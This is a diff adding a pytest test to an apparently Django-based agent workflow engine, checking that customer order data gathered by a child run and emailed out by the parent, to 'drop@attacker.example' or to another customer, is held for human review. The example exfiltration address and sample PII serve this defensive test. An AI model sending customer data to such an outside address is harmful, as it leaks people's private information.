@@ -175,3 +175,43 @@ def test_the_engine_denies_mailing_out_a_secret_read_the_step_before(settings, d
         assert run.result["sent"] is False
         assert "Secrets never leave" in run.result["why"]
     assert not Email.objects.exists()
+
+
+@workflow("_delegate_then_mail")
+def delegate_then_mail(ctx, to: str, lookup_first: str = "") -> dict:
+    """A helper researches in a child run; the parent then mails what came back."""
+    found = ctx.handoff(ctx.run.agent, goal="Research order A-1004.")
+    if lookup_first:
+        ctx.tool("orders.lookup", order_id=lookup_first)
+    ctx.tool("email.send", to=to, subject="fyi", body=str(found))
+    return {"sent": True}
+
+
+@pytest.mark.django_db(transaction=True)
+@pytest.mark.parametrize(
+    "to, lookup_first",
+    [("drop@attacker.example", ""), ("cam@example.com", "A-1001")],
+    ids=["to an outsider", "to another customer"],
+)
+def test_what_a_child_run_read_is_the_parents_too(settings, demo, monkeypatch, to, lookup_first):
+    """The child looks up Fatima's order and returns it; the parent's handoff step carries the
+    child's labels and the gate reads the child's steps: mailing it to an outsider, or to Cam
+    (whose order the parent read itself), waits for a reviewer."""
+    from approvals.queue.models import ApprovalRequest
+    from tests.orchestration.engine.puppet import Puppet, Turn
+
+    settings.BATON_GATE = "approvals.policy.gate.PolicyGate"
+    Puppet.install(monkeypatch)
+    Puppet.turns = [
+        Turn(calls=[("orders.lookup", {"order_id": "A-1004"})]),
+        Turn(text="Fatima Zahra fatima@example.com Laptop 1899 EUR"),
+    ]
+    Agent.objects.filter(name="refund-bot").update(provider="puppet", model="puppet-1")
+    input = {"to": to, "lookup_first": lookup_first}
+    parent = drive(run_start(workflow="_delegate_then_mail", agent="refund-bot", input=input).pk)
+    assert drive(parent.children.get().pk).status == "completed"
+    parent = drive(parent.pk)
+    assert parent.step_set.get(kind="handoff").labels == ["pii"]
+    assert parent.status == "waiting" and not Email.objects.exists()
+    request = ApprovalRequest.objects.get(run_id=parent.pk)
+    assert request.verdict["rules"] == ["Customer data leaving the company"]
